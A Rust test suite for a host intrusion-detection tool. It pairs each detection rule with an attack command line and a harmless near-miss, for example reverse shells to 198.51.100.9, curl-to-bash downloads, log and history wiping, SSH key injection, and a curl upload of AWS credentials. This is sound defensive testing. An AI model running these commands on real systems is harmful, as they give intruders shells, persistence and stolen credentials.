//! What the shipped rules about programs find, what just misses them, and the everyday life on which they are silent.

use picket_tests::judged::{SHIPPED, findings_in, lay};
use picket_tests::picket;
use serde_json::{Value, json};

const EVERYDAY: &str = include_str!("../corpora/everyday_processes.tsv");

/// The parent's path, the path, the command line.
type Started<'a> = (&'a str, &'a str, &'a str);

/// For each program, the titles of the rules that fire on it.
fn findings(programs: &[Started<'_>]) -> Vec<Vec<String>> {
    let started = |(parent, path, line): &Started<'_>| {
        json!({
            "@timestamp": "2026-03-01T00:00:00Z",
            "process": {"pid": 7, "executable": path, "args": line.split(' ').collect::<Vec<_>>(),
                "parent": {"pid": 5, "executable": parent}},
        })
    };
    findings_in(&programs.iter().map(started).collect::<Vec<_>>())
}

const SHELL: &str = "/bin/bash";

/// The title of a rule, a program on which it fires, and one that is nearly the same and harmless.
const CASES: &[(&str, Started<'_>, Started<'_>)] = &[
    (
        "Shell handed to another host",
        (SHELL, SHELL, "bash -c bash -i >& /dev/tcp/198.51.100.9/443 0>&1"),
        (
            SHELL,
            SHELL,
            "bash -c exec 3<>/dev/tcp/127.0.0.1/80; cat <&3 2>&1",
        ),
    ),
    (
        "Shell handed to another host",
        (
            SHELL,
            SHELL,
            "bash -c exec 5<>/dev/tcp/198.51.100.9/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
        ),
        (SHELL, SHELL, "bash -c echo > /dev/tcp/10.0.0.1/22"),
    ),
    (
        "Shell handed to another host",
        (
            SHELL,
            "/usr/bin/nc.traditional",
            "nc -e /bin/sh 198.51.100.9 4444",
        ),
        (SHELL, "/usr/bin/nc.traditional", "nc -l -p 4444"),
    ),
    (
        "Shell handed to another host",
        (
            SHELL,
            "/usr/bin/socat",
            "socat TCP:198.51.100.9:4444 EXEC:/bin/bash,pty,stderr",
        ),
        (
            SHELL,
            "/usr/bin/socat",
            "socat TCP-LISTEN:80,fork TCP:10.0.0.5:8080",
        ),
    ),
    (
        "Shell handed to another host",
        (
            SHELL,
            SHELL,
            "sh -c rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.9 4444 >/tmp/f",
        ),
        (SHELL, SHELL, "sh -c mkfifo /tmp/f; cat /tmp/f | gzip > x.gz"),
    ),
    (
        "Shell handed to another host",
        (
            SHELL,
            "/usr/bin/python3",
            "python3 -c import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.9\",443));os.dup2(s.fileno(),0)",
        ),
        (
            SHELL,
            "/usr/bin/python3",
            "python3 -c import socket;s=socket.socket();s.connect((\"10.0.0.1\",443))",
        ),
    ),
    (
        "Download run by a shell",
        (
            SHELL,
            "/bin/sh",
            "sh -c curl -fsSL http://198.51.100.9/x.sh | sudo -E bash -s -- -y",
        ),
        (
            SHELL,
            "/bin/sh",
            "sh -c curl -fsSL http://198.51.100.9/x.sh | shasum",
        ),
    ),
    (
        "Download run by a shell",
        (SHELL, SHELL, "bash -c bash <(wget -qO- http://198.51.100.9/x.sh)"),
        (
            SHELL,
            SHELL,
            "bash -c diff <(wget -qO- http://198.51.100.9/x.sh) x.sh",
        ),
    ),
    (
        "Encoded text run by a shell",
        (SHELL, SHELL, "bash -c echo aWQK|base64 -d|bash"),
        (SHELL, SHELL, "bash -c echo aWQK|base64 -d|wc"),
    ),
    (
        "Shell started by a web server",
        (
            "/usr/sbin/php-fpm8.2",
            "/bin/sh",
            "sh -c /usr/sbin/sendmail -t -i; id",
        ),
        (
            "/usr/sbin/php-fpm8.2",
            "/bin/sh",
            "sh -c /usr/sbin/sendmail -t -i -f web@example.com",
        ),
    ),
    (
        "System logs deleted or emptied",
        (SHELL, "/usr/bin/rm", "rm -f /var/log/auth.log"),
        (SHELL, "/usr/bin/rm", "rm -f /var/log/auth.log.2.gz"),
    ),
    (
        "System logs deleted or emptied",
        (SHELL, SHELL, "bash -c cat /dev/null > /var/log/wtmp"),
        (SHELL, SHELL, "bash -c echo mark >> /var/log/syslog"),
    ),
    (
        "System logs deleted or emptied",
        (
            SHELL,
            "/usr/bin/journalctl",
            "journalctl --rotate --vacuum-time=1s",
        ),
        (
            SHELL,
            "/usr/bin/journalctl",
            "journalctl --rotate --vacuum-time=14d",
        ),
    ),
    (
        "Shell history switched off or deleted",
        (SHELL, SHELL, "bash -c unset HISTFILE; id"),
        (SHELL, SHELL, "bash -c echo $HISTFILE; id"),
    ),
    (
        "Shell history switched off or deleted",
        (SHELL, "/usr/bin/ln", "ln -sf /dev/null /root/.bash_history"),
        (
            SHELL,
            "/usr/bin/cp",
            "cp /root/.bash_history /srv/backup/.bash_history",
        ),
    ),
    (
        "Key let in by a command",
        (
            SHELL,
            "/bin/sh",
            "sh -c echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys",
        ),
        (SHELL, "/bin/sh", "sh -c wc -l /root/.ssh/authorized_keys > count"),
    ),
    (
        "Job or service written by a command",
        (
            SHELL,
            "/bin/sh",
            "sh -c (crontab -l; echo * * * * * /tmp/x) | crontab -",
        ),
        (SHELL, "/bin/sh", "sh -c crontab -l | grep backup"),
    ),
    (
        "Job or service written by a command",
        (SHELL, "/usr/bin/tee", "tee /etc/systemd/system/update.service"),
        (SHELL, "/usr/bin/tee", "tee /etc/motd"),
    ),
    (
        "Library put into every program",
        (SHELL, "/usr/bin/cp", "cp /tmp/p /etc/ld.so.preload"),
        (SHELL, "/usr/bin/cp", "cp /etc/ld.so.preload /srv/backup/"),
    ),
    (
        "SUID bit set by a command",
        (SHELL, "/usr/bin/chmod", "chmod u+s /var/tmp/sh"),
        (SHELL, "/usr/bin/chmod", "chmod g+s /srv/shared"),
    ),
    (
        "SUID bit set by a command",
        (SHELL, "/usr/bin/chmod", "chmod 4755 /usr/local/bin/x"),
        (
            "/var/lib/dpkg/info/dbus.postinst",
            "/usr/bin/chmod",
            "chmod 4755 /usr/local/bin/x",
        ),
    ),
    (
        "Program run from a folder that anybody may write to",
        (SHELL, "/dev/shm/.x/kworker", "[kworker/0:1]"),
        (SHELL, "/usr/bin/ls", "ls /dev/shm/.x/kworker"),
    ),
    (
        "Program run from a folder that anybody may write to",
        (SHELL, "/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi"),
        (
            "/usr/sbin/dpkg-preconfigure",
            "/tmp/tzdata.config.aB3dE9",
            "/bin/sh /tmp/tzdata.config.aB3dE9 configure",
        ),
    ),
    (
        "Program run from a folder that anybody may write to",
        (SHELL, "/var/tmp/.ICE-unix/x", "./x"),
        (
            "/usr/bin/cargo",
            "/tmp/.tmpaB3dE9/target/debug/x",
            "target/debug/x",
        ),
    ),
    (
        "Program run from a tree in a folder that anybody may write to",
        (SHELL, "/tmp/go-build1/x", "/tmp/go-build1/x"),
        ("/usr/lib/go/bin/go", "/tmp/go-build1/x", "/tmp/go-build1/x"),
    ),
    (
        "Program run from a tree in a folder that anybody may write to",
        (SHELL, "/tmp/.tmpaB3dE9/x", "./x"),
        ("/usr/bin/make", "/var/tmp/build/tests/unit", "tests/unit"),
    ),
    (
        "Miner of coins",
        (SHELL, "/home/bob/xmrig", "./xmrig"),
        (SHELL, "/usr/bin/vi", "vi /home/bob/xmrig"),
    ),
    (
        "Miner joined to a pool",
        (SHELL, "/opt/x", "./x -o stratum+tcp://198.51.100.9:3333 -u 4xyz"),
        (SHELL, "/usr/bin/grep", "grep -r stratum+tcp:// /var/log"),
    ),
    (
        "Intruder's command run by an application server",
        ("/usr/bin/node", "/bin/sh", "/bin/sh -c id; uname -a"),
        ("/usr/bin/node", "/bin/sh", "/bin/sh -c identify -format %w a.png"),
    ),
    (
        "Intruder's command run by an application server",
        (
            "/usr/local/bin/gunicorn",
            "/bin/sh",
            "sh -c wget -qO- http://198.51.100.9/a | sh",
        ),
        (
            "/usr/local/bin/gunicorn",
            "/bin/sh",
            "sh -c wkhtmltopdf a.html a.pdf",
        ),
    ),
    (
        "Library preloaded from a folder that anybody may write to",
        (SHELL, "/bin/sh", "sh -c LD_PRELOAD=/dev/shm/a.so ls"),
        (
            SHELL,
            "/bin/sh",
            "sh -c LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server",
        ),
    ),
    (
        "Job taken from a folder that anybody may write to",
        (SHELL, "/usr/bin/crontab", "crontab /tmp/.x/c"),
        (SHELL, "/usr/bin/crontab", "crontab /etc/site/crontab"),
    ),
    (
        "Job taken from a folder that anybody may write to",
        (
            SHELL,
            "/usr/bin/systemctl",
            "systemctl enable --now /dev/shm/update.service",
        ),
        (SHELL, "/usr/bin/systemctl", "systemctl enable --now tmp.mount"),
    ),
    (
        "Keys or password hashes read by a tool",
        (SHELL, "/usr/bin/cat", "cat /home/bob/.ssh/id_ed25519"),
        (SHELL, "/usr/bin/cat", "cat /home/bob/.ssh/id_ed25519.pub"),
    ),
    (
        "Keys or password hashes read by a tool",
        (SHELL, "/usr/bin/tar", "tar -czf - /etc/shadow /etc/passwd"),
        (SHELL, "/usr/bin/tar", "tar -czf - /etc/passwd /etc/group"),
    ),
    (
        "Keys or password hashes read by a tool",
        (
            SHELL,
            "/usr/bin/curl",
            "curl -F f=@/root/.aws/credentials http://198.51.100.9/",
        ),
        (
            SHELL,
            "/usr/bin/scp",
            "scp -i /home/bob/.ssh/id_rsa a.tar backup@10.0.0.9:",
        ),
    ),
    (
        "Container started with the host inside",
        (
            SHELL,
            "/usr/bin/docker",
            "docker run -it -v /:/mnt alpine chroot /mnt",
        ),
        (
            SHELL,
            "/usr/bin/docker",
            "docker run -d -v /srv/web:/usr/share/nginx/html nginx",
        ),
    ),
    (
        "Container started with the host inside",
        (
            SHELL,
            "/usr/bin/podman",
            "podman run --privileged --pid=host alpine sh",
        ),
        (SHELL, "/usr/bin/podman", "podman run --privileged docker:dind"),
    ),
];

#[test]
fn each_rule_fires_on_its_attack_and_not_just_beside() {
    let attacks: Vec<Started<'_>> = CASES.iter().map(|(_, attack, _)| *attack).collect();
    let near: Vec<Started<'_>> = CASES.iter().map(|(_, _, near)| *near).collect();
    for ((title, attack, near), (fired, missed)) in
        CASES.iter().zip(findings(&attacks).iter().zip(findings(&near)))
    {
        assert!(
            fired.iter().any(|fired| fired == title),
            "{title}: {attack:?}: {fired:?}"
        );
        assert!(missed.is_empty(), "{near:?}: {missed:?}");
    }
}

/// The same for what a command line alone does not tell: what is laid over a plain program that was started.
const DEEDS: &[(&str, &str, &str)] = &[
    (
        "Connection made by a shell itself",
        r#"{"event": {"category": "network", "type": "start"}, "destination": {"ip": "198.51.100.9", "port": 443}}"#,
        r#"{"event": {"category": "network", "type": "start"}, "destination": {"ip": "127.0.0.1", "port": 5432}}"#,
    ),
    (
        "Connection to a port of mining pools",
        r#"{"event": {"category": "network", "type": "start"}, "process": {"executable": "/opt/x"},
            "destination": {"ip": "2001:db8::9", "port": 3333}}"#,
        r#"{"event": {"category": "network", "type": "start"}, "process": {"executable": "/opt/x"},
            "destination": {"ip": "10.0.0.9", "port": 3333}}"#,
    ),
    (
        "Program run from memory",
        r#"{"process": {"executable": "/memfd:x"}, "picket": {"process": {"file": {"device": 1, "inode": 2, "memfd": true}}}}"#,
        r#"{"process": {"executable": "/memfd:runc_cloned", "parent": {"executable": "/usr/bin/runc"}},
            "picket": {"process": {"file": {"device": 1, "inode": 2, "memfd": true}}}}"#,
    ),
    (
        "Program run from memory below a server",
        r#"{"process": {"executable": "/memfd:x"}, "picket": {"process": {"file": {"device": 1, "inode": 2, "memfd": true},
            "ancestors": [{"process": {"pid": 4, "start": 1}, "executable": "/usr/sbin/php-fpm8.2"}]}}}"#,
        r#"{"picket": {"process": {"file": {"device": 1, "inode": 2},
            "ancestors": [{"process": {"pid": 4, "start": 1}, "executable": "/usr/sbin/php-fpm8.2"}]}}}"#,
    ),
    (
        "Program run from a folder that anybody may write to",
        r#"{"process": {"executable": "/tmp/a/b"},
            "picket": {"process": {"ancestors": [{"process": {"pid": 4, "start": 1}, "executable": "/usr/sbin/php-fpm8.2"}]}}}"#,
        r#"{"process": {"executable": "/srv/a/b"},
            "picket": {"process": {"ancestors": [{"process": {"pid": 4, "start": 1}, "executable": "/usr/sbin/php-fpm8.2"}]}}}"#,
    ),
    (
        "Library preloaded from a folder that anybody may write to",
        r#"{"process": {"env_vars": ["LD_AUDIT=/dev/shm/a.so"]}}"#,
        r#"{"process": {"env_vars": ["LD_LIBRARY_PATH=/tmp/x/target/debug/deps:/usr/lib"]}}"#,
    ),
    (
        "Program whose file was deleted",
        r#"{"process": {"executable": "/home/bob/x"}, "picket": {"process": {"file": {"device": 1, "inode": 2, "unlinked": true}}}}"#,
        r#"{"process": {"executable": "/usr/sbin/nginx"}, "picket": {"process": {"file": {"device": 1, "inode": 2, "unlinked": true}}}}"#,
    ),
    (
        "Library preloaded from a folder that anybody may write to",
        r#"{"process": {"env_vars": ["LD_PRELOAD=libfakeroot.so:/tmp/a.so"]}}"#,
        r#"{"process": {"env_vars": ["LD_PRELOAD=/usr/lib/libfakeroot.so", "PWD=/tmp/a.so"]}}"#,
    ),
    (
        "Root's rights through a set-uid tool",
        r#"{"process": {"executable": "/usr/bin/find", "user": {"id": "0"}, "real_user": {"id": "1000"}}}"#,
        r#"{"process": {"executable": "/usr/bin/passwd", "user": {"id": "0"}, "real_user": {"id": "1000"}}}"#,
    ),
    (
        "Root's rights without a set-uid program",
        r#"{"event": {"category": "process", "type": "change", "action": "privilege"}, "process": {"user": {"id": "0"}},
            "picket": {"process": {"former_user": {"id": "33"}}}}"#,
        r#"{"process": {"user": {"id": "0"}}}"#,
    ),
    (
        "Way out of a container",
        r#"{"process": {"executable": "/usr/bin/nsenter", "args": ["nsenter", "-t", "1", "-m", "sh"]}, "container": {"id": "ab"}}"#,
        r#"{"process": {"executable": "/usr/bin/nsenter", "args": ["nsenter", "-t", "1", "-m", "sh"]}}"#,
    ),
    (
        "Way out of a container",
        r#"{"process": {"executable": "/usr/bin/curl", "args": ["curl", "--unix-socket", "/var/run/docker.sock", "http://d/images/json"]},
            "container": {"id": "ab"}}"#,
        r#"{"process": {"executable": "/usr/bin/curl", "args": ["curl", "http://app/docker.sock.txt"]}}"#,
    ),
    (
        "Logging or protection stopped by a signal",
        r#"{"event": {"category": "process", "type": "info", "action": "signal"},
            "picket": {"signal": {"number": 9, "target": {"pid": 9, "executable": "/usr/sbin/rsyslogd"}}}}"#,
        r#"{"event": {"category": "process", "type": "info", "action": "signal"},
            "picket": {"signal": {"number": 1, "target": {"pid": 9, "executable": "/usr/sbin/rsyslogd"}}}}"#,
    ),
];

/// An event with what a text lays over it.
fn laid_over(text: &str) -> Value {
    let mut event = json!({
        "@timestamp": "2026-03-01T00:00:00Z",
        "process": {"pid": 7, "executable": SHELL, "args": ["x"], "parent": {"pid": 5, "executable": SHELL}},
    });
    lay(&mut event, serde_json::from_str(text).unwrap());
    event
}

#[test]
fn each_rule_about_more_than_a_command_line_fires_on_its_attack_and_not_just_beside() {
    let attacks: Vec<Value> = DEEDS.iter().map(|(_, attack, _)| laid_over(attack)).collect();
    let near: Vec<Value> = DEEDS.iter().map(|(_, _, near)| laid_over(near)).collect();
    let (fired, missed) = (findings_in(&attacks), findings_in(&near));
    for ((title, attack, near), (fired, missed)) in DEEDS.iter().zip(fired.iter().zip(&missed)) {
        assert!(fired.iter().any(|fired| fired == title), "{attack}: {fired:?}");
        assert!(missed.is_empty(), "{near}: {missed:?}");
    }
}

/// For each rule that counts: so many events, each with the number in it, on which it fires with the last and not before.
const COUNTED: &[(&str, usize, &str)] = &[
    (
        "Many files encrypted or renamed",
        30,
        r#"{"process": {"executable": "/usr/bin/openssl", "args": ["openssl", "enc", "-aes-256-cbc", "-in", "NUMBER"]}}"#,
    ),
    (
        "Program that crashes again and again",
        6,
        r#"{"event": {"category": "process", "type": "end"}, "process": {"executable": "/usr/sbin/nginx"},
            "picket": {"process": {"exit_signal": 11}}}"#,
    ),
    (
        "One session looks around",
        8,
        r#"{"process": {"executable": "/usr/bin/COMMAND"}, "picket": {"process": {"session": 3}}}"#,
    ),
];

#[test]
fn each_rule_that_counts_fires_with_the_last_event_and_not_before() {
    let commands = ["id", "whoami", "uname", "w", "ps", "ss", "ip", "last", "df"];
    for (title, times, text) in COUNTED {
        let event = |number: usize| {
            let command = commands[number % commands.len()];
            laid_over(
                &text
                    .replace("NUMBER", &number.to_string())
                    .replace("COMMAND", command),
            )
        };
        let events: Vec<Value> = (0..*times).map(event).collect();
        let mut expected = vec![Vec::new(); times - 1];
        expected.push(vec![(*title).to_owned()]);
        assert_eq!(findings_in(&events), expected, "{title}");
        // Spread over more than any of them looks at, and from different groups, it is nothing.
        let apart = (0..*times).map(|number| {
            let mut event = event(number);
            event["@timestamp"] = format!("2026-03-01T{:02}:{:02}:00Z", number / 20, number % 20 * 3).into();
            event
        });
        let apart: Vec<Value> = apart.collect();
        assert_eq!(findings_in(&apart), vec![Vec::<String>::new(); *times], "{title}");
    }
}

#[test]
fn every_rule_about_programs_has_an_attack_here() {
    let output = picket()
        .args(["rules", "list", "--json", "--rules", SHIPPED])
        .output()
        .unwrap();
    let rules: Vec<Value> = serde_json::from_slice(&output.stdout).unwrap();
    let about_programs = rules.iter().filter(|rule| {
        let source = rule["log_source"].as_str().unwrap();
        rule["reports"] == true && !source.contains("authentication") && !source.contains("file_event")
    });
    let titles: Vec<&str> = about_programs
        .map(|rule| rule["title"].as_str().unwrap())
        .collect();
    assert!(titles.len() > 25, "{titles:?}");
    let mut tested = CASES.iter().map(|(title, _, _)| title).collect::<Vec<_>>();
    tested.extend(DEEDS.iter().map(|(title, _, _)| title));
    tested.extend(COUNTED.iter().map(|(title, _, _)| title));
    for title in titles {
        assert!(tested.contains(&&title), "{title}");
    }
}

#[test]
fn everyday_life_stays_silent() {
    let programs: Vec<Started<'_>> = EVERYDAY
        .lines()
        .map(|line| {
            let mut parts = line.splitn(3, '\t');
            let mut part = || parts.next().unwrap_or_else(|| panic!("three columns: {line}"));
            (part(), part(), part())
        })
        .collect();
    assert!(programs.len() > 80, "the corpus is there");
    for (program, fired) in programs.iter().zip(findings(&programs)) {
        assert!(fired.is_empty(), "{program:?}: {fired:?}");
    }
}
